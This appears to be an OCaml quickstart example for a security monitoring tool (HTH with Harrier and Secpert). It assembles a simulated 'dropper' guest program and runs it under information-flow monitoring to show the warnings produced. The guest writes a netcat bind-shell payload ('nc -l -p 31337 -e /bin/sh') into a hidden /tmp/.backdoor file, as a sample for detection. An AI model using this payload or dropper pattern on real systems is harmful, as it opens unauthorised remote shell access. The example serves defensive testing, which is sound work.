(* Quickstart: write a guest program with the assembler DSL, run it under
   full HTH monitoring, and read the warnings.

     dune exec examples/quickstart.exe

   The guest below is a classic dropper: it writes a hard-coded payload
   into a hard-coded file name — the signature HTH's information-flow
   policy flags as High severity. *)

let dropper =
  let open Asm in
  let u =
    create ~path:"/demo/dropper" ~kind:Binary.Image.Executable ~base:0x1000
      ()
  in
  Guest.Runtime.prologue u;
  asciz u "name" "/tmp/.backdoor";
  asciz u "payload" "#!/bin/sh\nnc -l -p 31337 -e /bin/sh\n";
  space u "fd" 4;
  label u "_start";
  Guest.Runtime.sys_creat u ~path:(lbl "name");
  movl u (mlbl "fd") eax;
  Guest.Runtime.sys_write u ~fd:(mlbl "fd") ~buf:(lbl "payload")
    ~len:(imm 37);
  Guest.Runtime.sys_close u ~fd:(mlbl "fd");
  Guest.Runtime.sys_exit u 0;
  hlt u;
  finalize u

let () =
  (* 1. describe the world: which images exist, what the user typed,
        what the network looks like *)
  let setup =
    Hth.Engine.setup ~programs:[ dropper ] ~main:"/demo/dropper" ()
  in
  (* 2. run it under Harrier + Secpert *)
  let result = Hth.Engine.run (Hth.Engine.create ()) setup in
  (* 3. inspect the outcome *)
  Fmt.pr "HTH verdict: %a@.@." Hth.Report.pp_verdict
    (Hth.Report.verdict result);
  List.iter
    (fun w -> Fmt.pr "%s@.@." (Secpert.Warning.to_string w))
    result.distinct;
  Fmt.pr "(%d events were analyzed; %d warnings fired)@."
    result.event_count
    (List.length result.warnings)
